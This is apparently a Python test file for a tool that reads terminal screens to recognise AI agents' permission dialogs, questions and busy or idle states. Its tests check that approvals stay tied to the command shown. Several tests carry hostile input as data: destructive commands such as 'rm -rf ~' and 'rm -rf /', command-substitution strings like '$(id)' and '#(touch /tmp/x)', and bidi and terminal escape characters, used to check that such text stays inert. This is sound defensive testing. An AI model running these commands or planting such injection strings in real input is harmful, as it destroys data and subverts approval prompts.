    assert dialog.keys_for(v.dialog, by_label["J"]) == ["J", "\r"]
    assert dialog.keys_for(v.dialog, by_label["j"]) == ["j", "\r"]
    assert dialog.keys_for(v.dialog, by_label["/"]) == ["/", "\r"]
    with pytest.raises(dialog.ChoiceError):  # "j" names two options: its number is asked
        dialog.resolve(v.dialog, "j")


@pytest.mark.parametrize("ask", [
    " Execute shell? [Y/n/c/e/a/?]",  # its "?" before the brackets
    "Stage this hunk [y,n,q,a,d,e,?]?",  # right after them
    "Overwrite notes? [y/n/a]?",  # both
    "Stage this hunk [y,n,q,a,d,e,?] ?",  # after a blank, none before
], ids=["before", "after", "both", "blank-after"])
def test_a_question_mark_typed_but_not_entered_is_erased_before_the_answer(
        generic: rules.Manifest, ask: str) -> None:
    before = rules.evaluate(generic, cursor_line([*CHAT_LOG, ask + " "]))
    after = rules.evaluate(generic, cursor_line([*CHAT_LOG, ask + " ?"]))
    assert before.dialog is not None and after.dialog is not None
    assert before.dialog.typed == ""
    # the "?" typed is no part of the question: the same dialog, and "n" is what the
    # program reads (not "?n", its help)
    assert after.dialog.id == before.dialog.id and after.dialog.typed == "?", after.dialog
    no = dialog.resolve(after.dialog, "n")
    assert dialog.keys_for(after.dialog, no) == ["\x7f", "n", "\r"]


def test_hostile_text_around_bracketed_keys_is_inert(generic: rules.Manifest) -> None:
    hostile = "Run $(rm -rf ~) #{pane_id} %H `id` '\u202e' \x1b]2;x\x07 " + "A" * 10_000
    v = rules.evaluate(generic, cursor_line([*CHAT_LOG, f"{hostile}? [y/n/e]"]))
    assert (v.state, v.kind) == ("blocked", "permission")
    assert v.dialog is not None
    assert [o.key for o in v.dialog.options] == ["y", "n", "e"]
    assert "\x1b" not in v.dialog.question and "\u202e" not in v.dialog.question
    assert len(v.dialog.question) <= 240
    # a bracketed list of other characters is no list of keys: nothing to type
    for row in ["Run it? [$/#/(]", "Run it? [#(touch x)/y]", "Run it? [ab/cd/ef]",
                "Run it? [\x1b/y/n]", "Run it? [y/n/$(id)]"]:
        v = rules.evaluate(generic, cursor_line([row]))
        assert v.rule_id not in ("keys_permission", "keys_question"), row


def test_the_same_bracketed_keys_question_about_another_command_is_another_dialog(
        generic: rules.Manifest) -> None:
    def ask(command: str, typed: str = "") -> dialog.Dialog:
        rows = ["User: clean the build", "Assistant:", "@shell(call_1):", command, "",
                "Preview", command, "", "· some log line of the program",
                f" Execute shell? [Y/n/c/e/a/?] {typed}"]
        v = rules.evaluate(generic, cursor_line(rows))
        assert (v.state, v.rule_id) == ("blocked", "keys_permission")
        assert v.dialog is not None and not v.dialog.partial
        return v.dialog

    build, root = ask("rm -rf build"), ask("rm -rf /")
    # an answer checked against the dialog the person saw never approves another command
    assert build.id != root.id
    assert build.question.startswith("Execute shell? [Y/n/c/e/a/?]")
    assert ask("rm -rf build", typed="y").id == build.id  # a key typed: the same dialog
    # the command right above the question (no blank row between) is its shown subject
    rows = ["@shell(call_1):", "rm -rf build", " Execute shell? [Y/n/c/e/a/?]"]
    chat = rules.evaluate(generic, cursor_line(["", *rows]))
    assert chat.dialog is not None and not chat.dialog.partial
    assert chat.dialog.subject == ("@shell(call_1):", "rm -rf build")
    # the same paragraph from the screen's top: its start may have scrolled away
    top = rules.evaluate(generic, cursor_line(rows))
    assert top.dialog is not None and top.dialog.partial


@pytest.mark.parametrize("rows", [
    # a progress count: no "?" next to its brackets
    ["Downloading notes [1/3]"],
    # answered: the cursor went on to the next line
    [" Execute shell? [Y/n/c/e/a/?] y", ""],
    # typed at a chat's prompt, not entered
    ["User: Execute shell? [Y/n/c/e/a/?]"],
    # one key only
    ["Ready? [y]"],
], ids=["count", "answered", "typed", "one-key"])
def test_bracketed_keys_that_are_no_question(generic: rules.Manifest,
                                             rows: list[str]) -> None:
    v = rules.evaluate(generic, cursor_line(rows))
    assert v.state != "blocked", (v.rule_id, rows)


def test_a_yes_no_prompt_is_still_the_line_mode_rules(generic: rules.Manifest) -> None:
    v = rules.evaluate(generic, cursor_line(["Overwrite config? [y/N] "]))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission")
    assert v.dialog is not None and [o.label for o in v.dialog.options] == ["yes", "no"]
    q = rules.evaluate(generic, cursor_line(["Save the transcript? [y/N] "]))
    assert (q.state, q.kind, q.rule_id) == ("blocked", "question", "yes_no_question")
    assert q.dialog is not None and [o.label for o in q.dialog.options] == ["yes", "no"]


def test_a_line_mode_chat_reads_idle_at_its_prompt_and_working_at_its_progress_line(
        generic: rules.Manifest) -> None:
    idle = rules.evaluate(generic, cursor_line([*CHAT_LOG, "Four.", "", "User: "]))
    assert (idle.state, idle.rule_id) == ("idle", "line_chat_prompt")
    busy = rules.evaluate(generic, rules.Snapshot(
        lines=["User: what is two plus two", "Assistant: Thinking..."] + [""] * 28,
        cursor=(1, 0)))
    assert (busy.state, busy.rule_id) == ("working", "line_progress")
    # a password prompt is still one; a shell's prompt and a typed line are no chat prompt
    pw = rules.evaluate(generic, cursor_line(["Password: "]))
    assert (pw.state, pw.rule_id) == ("blocked", "password_prompt")
    for row in ["user@host:~$ ", "User: what is two", "Assistant: here it is", ">>> ",
                "Two words: "]:
        v = rules.evaluate(generic, cursor_line([row]))
        assert v.rule_id not in ("line_chat_prompt", "line_progress"), (row, v.rule_id)
    # a composer's placeholder that ends with an ellipsis is no progress line
    for row in ["│ Type your message... │", "❯ Ask anything...", "▊  Type your input... ▎",
                "Press any key to continue...", "Hit Enter to go on…"]:
        v = rules.evaluate(generic, cursor_line([row]))
        assert v.rule_id != "line_progress", row


def test_a_toolkits_select_prompt_with_a_guillemet_pointer_has_its_options(
        generic: rules.Manifest) -> None:
    rows = [*CHAT_LOG, "? Which color do you prefer? (Use shortcuts or arrow keys)",
            " » 1) Red", "   2) Blue"]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "select_prompt")
    assert v.dialog is not None
    assert [(o.label, o.selected) for o in v.dialog.options] == [("Red", True), ("Blue", False)]
    assert dialog.keys_for(v.dialog, v.dialog.options[1]) == ["\x1b[B", "\r"]


# ------------------------------------------- a composer drawn as a bar down its left side

BAR_FOOTER = "▶ normal mode on · tune: full (auto) · ctx: 0%"


def bar_composer(*text: str) -> list[str]:
    return ["What would you like me to help with?", "┃", *(f"┃ {t}" for t in text), "┃", "",
            BAR_FOOTER]


BAR_CONVERSATION = ["You:", "┃", "┃ make the output directory", "┃", "", "~7 tokens", ""]


def test_a_bar_edged_composer_reads_idle_and_a_spinner_in_it_working(
        generic: rules.Manifest) -> None:
    empty = read(generic, [*BAR_CONVERSATION, *bar_composer("> / commands, ! bash")])
    assert (empty.state, empty.rule_id) == ("idle", "tui_composer")
    typed = read(generic, [*BAR_CONVERSATION, *bar_composer("think about it for a long time")])
    assert (typed.state, typed.rule_id) == ("idle", "tui_composer_bar")
    two = read(generic, [*BAR_CONVERSATION, *bar_composer("first row", "second row")])
    assert (two.state, two.rule_id) == ("idle", "tui_composer_bar")
    busy = read(generic, [*BAR_CONVERSATION, "What would you like me to help with?", "┃",
                          "┃ > / commands, ! bash", "┃", "┃ ⠙ Press Esc to cancel", "┃", "",
                          BAR_FOOTER])
    assert (busy.state, busy.rule_id) == ("working", "tui_working")


@pytest.mark.parametrize("rows", [
    # a closed box: its right edge
    ["  │" + " " * 40 + "│", "  │ Ask anything" + " " * 27 + "│", "  │" + " " * 40 + "│"],
    # the bar's block with more than three rows under it (a message in the conversation)
    [*BAR_CONVERSATION, "Thinking about it", "and more", "and more"],
    # no row with the bar alone above the text
    ["┃ one", "┃", "", BAR_FOOTER],
], ids=["closed-box", "conversation", "no-top"])
def test_bars_that_are_no_composer(generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.rule_id != "tui_composer_bar", (v.rule_id, rows)


# ---------------------------- options that wear a glyph under a paragraph, one key hinted

def glyph_approval(*command: str) -> list[str]:
    return [*BAR_CONVERSATION, "", "⚒ execute_bash", "Command:", *command, "", "",
            'Do you want to execute tool "execute_bash"?', "", "> ✓ Yes, execute this tool",
            "  ✗ No, cancel execution", "", "Press Escape to cancel", "", ""]


def test_glyph_options_with_one_key_hinted_and_the_paragraph_above_as_subject(
        generic: rules.Manifest) -> None:
    v = read(generic, glyph_approval("ls -la", "touch x1.txt"))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_glyphs")
    assert v.dialog is not None
    assert [(o.label, o.selected) for o in v.dialog.options] == [
        ("Yes, execute this tool", True), ("No, cancel execution", False)]
    assert v.dialog.subject == ("⚒ execute_bash", "Command:", "ls -la", "touch x1.txt")
    assert not v.dialog.partial
    other = read(generic, glyph_approval("ls -la", "touch x2.txt"))
    assert other.dialog is not None and other.dialog.id != v.dialog.id
    assert dialog.keys_for(v.dialog, v.dialog.options[1]) == ["\x1b[B", "\r"]
    # a command that runs past the screen's top: partial, `answer` refuses it
    tall = glyph_approval(*(f"touch f{i:02d}.txt" for i in range(40)))[-30:]
    t = read(generic, tall)
    assert (t.state, t.kind) == ("blocked", "permission")
    assert t.dialog is not None and t.dialog.partial
    # answered, something is drawn under it: the hint is no longer last
    done = read(generic, [*glyph_approval("ls"), "✓ Ran 1 command", "Done.", "", "more",
                          "and more"])
    assert done.state != "blocked"


def test_a_pointer_list_without_numbers_under_hints_has_its_options(
        generic: rules.Manifest) -> None:
    rows = [*BAR_CONVERSATION, "┃", "┃ Which color do you prefer?", "┃", "", "❯ Red",
            "  Blue", "  Type a custom answer…", "", "↑/↓ to move · Enter to select · Esc to cancel"]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_list")
    assert v.dialog is not None
    assert [(o.label, o.selected) for o in v.dialog.options] == [
        ("Red", True), ("Blue", False), ("Type a custom answer…", False)]


def test_a_question_indented_as_far_as_a_pointer_lists_labels_is_no_option(
        generic: rules.Manifest) -> None:
    rows = ["", "  Run rm -rf build?", "", "❯ Yes", "  No", "",
            "↑/↓ to move · Enter to select · Esc to cancel"]
    v = read(generic, rows)
    assert (v.state, v.rule_id) == ("blocked", "tui_dialog_list")
    assert v.dialog is not None
    assert [(o.label, o.selected) for o in v.dialog.options] == [("Yes", True), ("No", False)]


# ------------------- a running turn's hint row, a one-key hint, a bar inside a box's edge

HOSTILE = "$(rm -rf ~) #{pane_id} %H `id` '\u202e' \x1b]2;x\x07"


@pytest.mark.parametrize("rows", [
    # the spinner row in the composer's place, over a footer behind a pointer glyph
    [*BAR_CONVERSATION, "~7 tokens", "⠙ Press Esc to cancel · ctrl-o expand tool results",
     BAR_FOOTER],
    # the same with the bar-edged prompt still drawn above it
    [*BAR_CONVERSATION, *bar_composer("> / commands"), "⠼ Press Esc to cancel", "",
     BAR_FOOTER],
    # a tool's output above it whose rows are indented like a list's siblings
    [*BAR_CONVERSATION, "⚒ execute_bash", "Command:  sleep 3", "  running it", "",
     "⠇ Press Esc to cancel · ctrl-o expand tool results", "▶ normal mode on"],
], ids=["spinner", "under-composer", "tool-output"])
def test_a_running_turns_interrupt_hint_behind_a_spinner_is_no_dialog(
        generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state == "working", (v.state, v.rule_id)


def test_hints_typed_into_a_bar_edged_composer_are_no_dialog(generic: rules.Manifest) -> None:
    typed = ('Do you want to execute tool "execute_bash"? > ✓ Yes  ✗ No, cancel execution '
             "(Press Escape to cancel)")
    v = read(generic, [*BAR_CONVERSATION, *bar_composer(typed)])
    assert v.state != "blocked", v.rule_id


def pointer_under_one_key(*options: str, ask: str = "? Which color do you prefer?") -> list[str]:
    first, *rest = options
    return [*BAR_CONVERSATION, "┃", f"┃ {ask}", "┃", f"❯ {first}", *(f"  {o}" for o in rest),
            "Press Escape to cancel"]


def test_a_pointer_list_under_one_key_hinted_is_a_question(generic: rules.Manifest) -> None:
    v = read(generic, pointer_under_one_key("Red", "Blue", "Type custom answer..."))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_list")
    assert v.dialog is not None
    assert [(o.label, o.selected) for o in v.dialog.options] == [
        ("Red", True), ("Blue", False), ("Type custom answer...", False)]
    assert dialog.keys_for(v.dialog, v.dialog.options[1]) == ["\x1b[B", "\r"]
    # hostile labels stay text: read as they are, typed as arrows and Enter only
    h = read(generic, pointer_under_one_key(f"Red {HOSTILE}", "Blue", ask=f"? {HOSTILE}"))
    assert h.state == "blocked" and h.dialog is not None
    assert h.dialog.options[0].label.startswith("Red $(rm -rf ~) #{pane_id} %H")
    assert dialog.keys_for(h.dialog, h.dialog.options[0]) == ["\r"]
    # glyph options under the same hint stay the glyph rules' permission
    g = read(generic, glyph_approval("sleep 3 && mkdir -p out"))
    assert (g.state, g.kind, g.rule_id) == ("blocked", "permission", "tui_dialog_glyphs")


def test_options_over_the_composer_with_a_spinner_row_between(generic: rules.Manifest) -> None:
    rows = on_composer(f"rm -rf build {HOSTILE}", "Yes", "No", "Always", "Auto LOW/MED")
    at = rows.index(STATUS_COMPOSER[0])
    rows = [*rows[:at], " ⠸ Working (4s • ESC: pause)", *rows[at:]]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_on_composer")
    assert v.dialog is not None
    assert [(o.label, o.selected) for o in v.dialog.options] == [
        ("Yes", True), ("No", False), ("Always", False), ("Auto LOW/MED", False)]
    # the spinner row alone over the composer, no options: working
    busy = read(generic, ["  > clean the build", "", " ⠸ Working (4s • ESC: pause)",
                          *STATUS_COMPOSER])
    assert busy.state == "working"
    # a row of text under the options, then the spinner: the answer's text, no dialog
    quoted = [*rows[:at], "  That is what it asked.", *rows[at:]]
    assert read(generic, quoted).state != "blocked"


def test_a_question_box_with_a_bar_inside_its_edge_above_the_composer(
        generic: rules.Manifest) -> None:
    rows = ["▎> ask me a question", "",
            *square_box(" › Agent has a question for you", "",
                        "  █   1. Which color do you prefer? (required)", "  █",
                        "  █  › Red", "  █    Blue", f"  █    Other {HOSTILE}", "", "",
                        " ↑/↓ Select • Enter to continue • Esc to cancel"),
            *COMPOSER]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_above")
    assert v.dialog is not None
    # the numbered question is no option
    assert [(o.label, o.selected) for o in v.dialog.options][:2] == [
        ("Red", True), ("Blue", False)]
    assert len(v.dialog.options) == 3
    # the same box with its bar but approval options: a permission
    p = read(generic, ["▎> go", "", *square_box(" >>> Shell Requires Approval <<<", "  ls", "",
                                                "  █  › 1. Approve (y)", "  █    2. Reject (n)",
                                                ABOVE_HINTS), *COMPOSER])
    assert (p.state, p.kind, p.rule_id) == ("blocked", "permission", "tui_dialog_above")
    assert [o.key for o in p.dialog.options] == ["y", "n"]


def test_a_dialog_drawn_behind_a_bar_keeps_its_hints(generic: rules.Manifest) -> None:
    # options and hints behind one bar: hints between rows of the bar alone are the
    # dialog's (only a bar's one row of text is a composer's)
    rows = ["  ┃", "  ┃  Which color do you prefer?", "  ┃", "  ┃  1. Red", "  ┃  2. Blue",
            "  ┃", "  ┃  ↑↓ select  enter submit  esc dismiss", "  ┃"]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_list")


# ------------------------------------ a yes/no question read on the next row, its subject

CODE = ["> make the output directory", "", "  I will create the directory.", "", "",
        "  sleep 3 && mkdir -p out && echo hi > out/x.txt", "", ""]
ASK = "  Would you like to run this code? (y/n)"


def at_input(rows: list[str], col: int, *, typed: str | None = None,
             height: int = 30) -> rules.Snapshot:
    """`rows` (the last the cursor's) with the cursor at column `col` of the last row."""
    return rules.Snapshot(lines=rows + [""] * (height - len(rows)),
                          cursor=(len(rows) - 1, col), typed=typed)


def test_the_input_region_reads_the_cursors_row_as_the_program_drew_it() -> None:
    from osc7501wrap.rules.regions import Screen, parse_region

    def region(snap: rules.Snapshot, n: int = 2) -> tuple[str, ...]:
        return Screen(snap).region(parse_region(f"input:{n}")).lines

    # a prompt of blanks: the blanks before the cursor are kept (cursor:N trims them)
    assert region(at_input(["Ask? (y/n)", ""], 2)) == ("Ask? (y/n)", "  ")
    # at the row's start (an answer entered, the program at work): nothing
    assert region(at_input(["Ask? (y/n)", ""], 0)) == ("Ask? (y/n)", "")
    # what is right of the cursor is not the input's; wide characters take two cells
    assert region(at_input(["界界 abc"], 4), 1) == ("界界",)
    # bidi marks and zero-width characters take no cell of their own
    assert region(at_input(["\u202eevil\u2066 \u200b do it\u2069? [y/N] "], 19), 1) == (
        "\u202eevil\u2066 \u200b do it\u2069? [y/N] ",)
    # the user's typing, echoed and not entered, is left out; other text stays
    assert region(at_input(["> Delete it? (y/n)"], 18, typed="Delete it? (y/n)"), 1) == (
        "> ",)
    assert region(at_input(["Continue? [y/N] y"], 17, typed="n"), 1) == (
        "Continue? [y/N] y",)
    # the cursor unknown: cursor:N
    assert Screen(rules.Snapshot(lines=["a", "Ask? (y/n)"])).region(
        parse_region("input:1")).lines == ("Ask? (y/n)",)


def test_a_yes_no_question_read_on_the_next_row_is_a_dialog(generic: rules.Manifest) -> None:
    rows = [*CODE, ASK, "", ""]
    v = rules.evaluate(generic, at_input(rows, 2))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_input_permission")
    d = v.dialog
    assert d is not None and not d.partial
    assert d.question.startswith("Would you like to run this code? (y/n)")
    assert d.subject == ("sleep 3 && mkdir -p out && echo hi > out/x.txt",)
    assert [(o.label, o.key) for o in d.options] == [("yes", "y"), ("no", "n")]
    assert dialog.keys_for(d, dialog.resolve(d, "yes")) == ["y", "\r"]
    # an answer typed and not entered: the same dialog, erased before the answer, whether
    # the input side saw it typed (left out of the input row) or not (read there)
    for typed in (None, "n"):
        got = rules.evaluate(generic, at_input([*CODE, ASK, "", "  n"], 3, typed=typed))
        assert got.dialog is not None and got.rule_id == v.rule_id, typed
        assert got.dialog.id == d.id and got.dialog.typed == "n", typed
        assert dialog.keys_for(got.dialog, dialog.resolve(got.dialog, "yes")) == [
            "\x7f", "y", "\r"]
    # one blank row between, or none; a question that asks no leave to act is a question
    assert rules.evaluate(generic, at_input([*CODE, ASK, ""], 2)).state == "blocked"
    assert rules.evaluate(generic, at_input([*CODE, ASK, "  "], 2)).state == "blocked"
    other = rules.evaluate(generic, at_input([*CODE, "  Save the transcript? [y/N]", "", ""], 2))
    assert (other.state, other.kind, other.rule_id) == ("blocked", "question", "yes_no_input")


@pytest.mark.parametrize(("rows", "col"), [
    # answered with Enter (its default): the cursor at the next row's start, the program
    # working silently
    ([*CODE, ASK, "", ""], 0),
    ([*CODE, ASK, "", "  y", "", ""], 0),
    # the cursor's row holds the program's output
    ([*CODE, ASK, "", "  running the code"], 18),
    # the question four rows above
    ([*CODE, ASK, "", "", "", ""], 2),
    # a question in the conversation and the chat's prompt under it
    ([*CODE, ASK, "", "> "], 2),
], ids=["entered", "answered", "output", "far", "chat-prompt"])
def test_a_yes_no_question_above_the_cursor_that_waits_for_nothing(
        generic: rules.Manifest, rows: list[str], col: int) -> None:
    v = rules.evaluate(generic, at_input(rows, col))
    assert v.state != "blocked", v.rule_id


def test_a_question_the_user_typed_and_did_not_enter_is_no_dialog(
        generic: rules.Manifest) -> None:
    row = "> Would you like to run this code? (y/n)"
    # without knowing what was typed, the cursor's row reads as a program's question
    assert rules.evaluate(generic, at_input([row], len(row))).state == "blocked"
    v = rules.evaluate(generic, at_input([row], len(row), typed=row[2:]))
    assert v.state != "blocked", v.rule_id
    # an answer typed at a program's question is still the question's
    ask = "Overwrite config? [y/N] y"
    got = rules.evaluate(generic, at_input([ask], len(ask), typed="y"))
    assert (got.state, got.rule_id) == ("blocked", "yes_no_permission")
    assert got.dialog is not None and got.dialog.typed == "y"


def test_the_same_yes_no_question_about_another_command_is_another_dialog(
        generic: rules.Manifest) -> None:
    def ask(command: str, *, on_row: bool = False, height: int = 30) -> dialog.Dialog:
        code = ["> do it", "", "  I will.", "", "", f"  {command}", "", ""]
        rows = ([*code, "Proceed? [y/N] "] if on_row else [*code, ASK, "", ""])
        v = rules.evaluate(generic, at_input(rows, len(rows[-1]) if on_row else 2,
                                             height=height))
        assert v.state == "blocked" and v.dialog is not None
        return v.dialog

    for on_row in (False, True):
        build, root = ask("rm -rf build", on_row=on_row), ask("rm -rf /", on_row=on_row)
        assert build.id != root.id and not build.partial, on_row
        assert build.subject == ("rm -rf build",) and root.subject == ("rm -rf /",)
    # a paragraph that reaches the top of a full screen may have scrolled away: partial
    rows = [f"touch f{i}.txt" for i in range(12)] + [ASK, "", ""]
    full = rules.evaluate(generic, at_input(rows, 2, height=len(rows)))
    assert full.dialog is not None and full.dialog.partial
    # printed from the top of a screen that never filled: whole
    fresh = rules.evaluate(generic, at_input(rows, 2))
    assert fresh.dialog is not None and not fresh.dialog.partial
    assert len(fresh.dialog.subject) == 12
    # a row cut with "…" shows part of the command only
    cut = rules.evaluate(generic, at_input(["", "  echo AAAA…", "  && touch x", "", ASK,
                                            "", ""], 2))
    assert cut.dialog is not None and cut.dialog.partial
    # apt's question on the cursor's row, its packages above it
    apt = ["Reading package lists... Done", "The following NEW packages will be installed:",
           "  cowsay", "Do you want to continue? [Y/n] "]
    a = rules.evaluate(generic, at_input(apt, len(apt[-1])))
    b = rules.evaluate(generic, at_input([*apt[:2], "  sl", apt[3]], len(apt[-1])))
    assert a.dialog is not None and b.dialog is not None
    assert a.dialog.question.startswith("Do you want to continue? [Y/n]")
    assert a.dialog.id != b.dialog.id
    assert "  cowsay" in a.dialog.subject and not a.dialog.partial


def test_hostile_text_in_a_yes_no_questions_subject_is_inert(generic: rules.Manifest) -> None:
    hostile = f"{HOSTILE} \x07\x1b[31m \u2066x\u2069 " + "A" * 10_000
    rows = ["", f"  rm {hostile}", "  #(touch /tmp/x) $(id)", "", ASK, "", ""]
    v = rules.evaluate(generic, at_input(rows, 2))
    assert (v.state, v.rule_id) == ("blocked", "yes_no_input_permission")
    d = v.dialog
    assert d is not None and d.subject
    text = "\n".join([d.question, *d.subject])
    for bad in ("\x1b", "\x07", "\u202e", "\u2066", "\u2069"):
        assert bad not in text, repr(bad)
    assert "#(touch /tmp/x) $(id)" in d.subject  # shown as text, never run
    # the options stay the two fixed keys
    assert [o.key for o in d.options] == ["y", "n"]


# ------------------------- a yes/no question on the cursor's row that asks leave to act

CALL = ["> make the output directory",
        "I will create the directory.Tool call: run_shell({'command': 'rm -rf build'})"]
APPROVE = "Approve tool call? [y/N]: "
#: the verbs `yes_no_input_permission` reads on the row above the input: the same list
ACTS = ("run", "execute", "exec", "apply", "allow", "approve", "permit", "install",
        "uninstall", "delete", "remove", "overwrite", "replace", "proceed")


def test_a_yes_no_question_on_the_cursors_row_that_asks_to_act_is_a_permission(
        generic: rules.Manifest) -> None:
    rows = [*CALL, APPROVE]
    v = rules.evaluate(generic, at_input(rows, len(APPROVE)))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission")
    d = v.dialog
    assert d is not None and d.question.startswith("Approve tool call? [y/N]:")
    assert d.subject == tuple(CALL) and not d.partial  # the call printed above it
    assert [(o.label, o.key) for o in d.options] == [("yes", "y"), ("no", "n")]
    assert dialog.keys_for(d, dialog.resolve(d, "no")) == ["n", "\r"]
    # the same question about another call is another dialog
    other = rules.evaluate(generic, at_input(
        [CALL[0], CALL[1].replace("rm -rf build", "ls"), APPROVE], len(APPROVE)))
    assert other.dialog is not None and other.dialog.id != d.id
    # every verb of the next-row rule, with its object, in each yes/no shape
    for verb in ACTS:
        for ask in (f"{verb.title()} the files? [y/N] ", f"Do you want to {verb} it? (y/n) ",
                    f"{verb.title()} this (yes/no)? "):
            got = rules.evaluate(generic, at_input(["$ x", ask], len(ask)))
            assert (got.state, got.kind) == ("blocked", "permission"), ask
            below = rules.evaluate(generic, at_input(["$ x", "  " + ask.rstrip(), "", "  "], 2))
            assert (below.state, below.kind) == ("blocked", "permission"), ask


@pytest.mark.parametrize("ask", [
    "Do you want to continue? [Y/n] ",
    "Are you sure you want to continue connecting (yes/no/[fingerprint])? ",
    "Proceed? [y/N] ", "Continue? (Y/n) ", "Save the transcript? [y/N] ",
    "Is the runner ready? (y/n) ", "Delete? [y/N] ",
])
def test_a_yes_no_question_that_asks_no_leave_to_act_stays_a_question(
        generic: rules.Manifest, ask: str) -> None:
    v = rules.evaluate(generic, at_input(["$ x", ask], len(ask)))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "yes_no_question")
    below = rules.evaluate(generic, at_input(["$ x", "  " + ask.rstrip(), "", "  "], 2))
    assert (below.state, below.kind) == ("blocked", "question"), ask


def test_a_permission_the_user_typed_at_a_chats_prompt_is_no_dialog(
        generic: rules.Manifest) -> None:
    # typed and not entered: no program asks it, whether its brackets read as yes/no or
    # as keys
    for typed in ("Tool call: run_shell Approve tool call? [y/N]: ",
                  "Execute shell? [Y/n/c/e/a/?]", "Stage this hunk [y,n,q]? "):
        row = "> " + typed
        v = rules.evaluate(generic, at_input([*CALL[:1], row], len(row), typed=typed))
        assert v.state != "blocked", (typed, v.rule_id)
        # without knowing what was typed, the row reads as a program's question
        assert rules.evaluate(generic, at_input([*CALL[:1], row], len(row))).state == "blocked"
    # a key typed at a program's question is still the question's, read to be erased
    ask = " Execute shell? [Y/n/c/e/a/?] c"
    for typed in (None, "c"):
        got = rules.evaluate(generic, at_input(["rm -rf build", ask], len(ask), typed=typed))
        assert (got.state, got.rule_id) == ("blocked", "keys_permission"), typed
        assert got.dialog is not None and got.dialog.typed == "c", typed


@pytest.mark.parametrize(("row", "idle"), [
    ("> ", True), ("  >", True), ("~ ", True),
    # the user's prompt entered, the turn running; a quote; an arrow; a shell's prompt
    ("> make the output directory", False), ("> > quoted", False), (">>> ", False),
    ("-> ", False), ("~ make the output directory", False), ("~/work $ ", False),
    ("~~ ", False),
])
def test_a_line_mode_chats_bare_prompt_reads_idle_after_its_turn(
        generic: rules.Manifest, row: str, idle: bool) -> None:
    answer = [*CALL, "Approve tool call? [y/N]: y", " Here is what I found.", row]
    v = rules.evaluate(generic, at_input(answer, len(row)))
    assert (v.state == "idle" and v.rule_id == "line_chat_prompt") is idle, v.rule_id


def test_hostile_text_in_a_yes_no_permission_is_inert(generic: rules.Manifest) -> None:
    hostile = f"{HOSTILE} \x07\x1b[31m \u2066x\u2069 " + "A" * 10_000
    ask = "Run \"$(rm -rf ~)\" #{pane_id} %H `id` '#(touch /tmp/x) $(id)' \u202e? [y/N] "
    rows = ["", f"Tool call: run_shell({hostile!r})", ask]
    v = rules.evaluate(generic, at_input(rows, len(ask)))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission")
    d = v.dialog
    assert d is not None and d.subject
    text = "\n".join([d.question, *d.subject])
    for bad in ("\x1b", "\x07", "\u202e", "\u2066", "\u2069"):
        assert bad not in text, repr(bad)
    assert "#(touch /tmp/x) $(id)" in d.question  # shown as text, never run
    assert [o.key for o in d.options] == ["y", "n"]


def countdown_dialog(*options: str, ask: str = "⚠ Dangerous command", command: str = "rm -rf build",
                     left: int = 297, hints: str = "↑/↓ to select, Enter to confirm") -> list[str]:
    """A numbered list in a box, the hints and the time left under it, the composer last."""
    body = [ask, "", command, "", *options, ""] if command else [ask, "", *options, ""]
    return ["● clean the build", "", "╭" + "─" * 48 + "╮", *(f"│ {r:<46} │" for r in body),
            "╰" + "─" * 48 + "╯", "", "  💻 rm -rf build  (  2.1s)",
            f"  {hints}  ({left}s)" if left else f"  {hints}", " ⚕ gpt-4o │ 16s",
            "─" * 60, "⚠ ❯", "─" * 60]


ALLOW = ("❯ 1. Allow once", "  2. Allow for this session", "  3. Deny")


def test_a_numbered_box_over_a_countdown_and_the_composer_is_a_dialog(
        generic: rules.Manifest) -> None:
    v = read(generic, countdown_dialog(*ALLOW))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_countdown")
    d = v.dialog
    assert d is not None and not d.partial
    assert [o.label for o in d.options] == ["Allow once", "Allow for this session", "Deny"]
    assert d.options[0].selected and d.subject == ("rm -rf build",)
    keys = dialog.keys_for(d, dialog.resolve(d, "Deny"))
    assert keys[-1] == "\r" and len(keys) == 3  # two rows down, then Enter
    # the countdown ticking is the same dialog; another command is another one
    assert read(generic, countdown_dialog(*ALLOW, left=12)).dialog.id == d.id
    other = read(generic, countdown_dialog(*ALLOW, command="rm -rf /")).dialog
    assert other is not None and other.id != d.id
    # the same box asking something else is a question
    q = read(generic, countdown_dialog("❯ 1. Red", "  2. Blue", "  3. Other (type your answer)",
                                       ask="Which color do you prefer?", command="", left=117))
    assert (q.state, q.kind, q.rule_id) == ("blocked", "question", "tui_question_countdown")
    assert q.dialog is not None and [o.label for o in q.dialog.options][:2] == ["Red", "Blue"]
    assert q.dialog.question == "Which color do you prefer?"


QUOTED_ANSWER = ["● what does a dangerous command look like", "", "╭─ ⚕ Hermes " + "─" * 40,
                 "    Hermes asked:", "", "        ⚠  Dangerous Command", "        rm -rf build",
                 "        ❯ 1. Allow once", "        4. Deny",
                 "        ↑/↓ to select, Enter to confirm  (297s)", "",
                 "    Nothing is waiting now.", "╰" + "─" * 50]


@pytest.mark.parametrize("rows", [
    # no time left beside the hints: the list rules' (a composer drawn under them: none)
    countdown_dialog(*ALLOW, left=0),
    # quoted in an answer over the composer
    [*QUOTED_ANSWER, " ⚕ gpt-4o │ 29s", "─" * 60, "❯", "─" * 60],
    # the same answer once the program erased its composer and status bar (on its way out)
    QUOTED_ANSWER,
    [*QUOTED_ANSWER[:-3], "", "    Nothing is waiting now.", "╰" + "─" * 50],
], ids=["no-countdown", "quoted", "quoted-no-composer", "quoted-hints-last"])
def test_a_list_and_a_countdown_that_are_no_dialog(generic: rules.Manifest,
                                                   rows: list[str]) -> None:
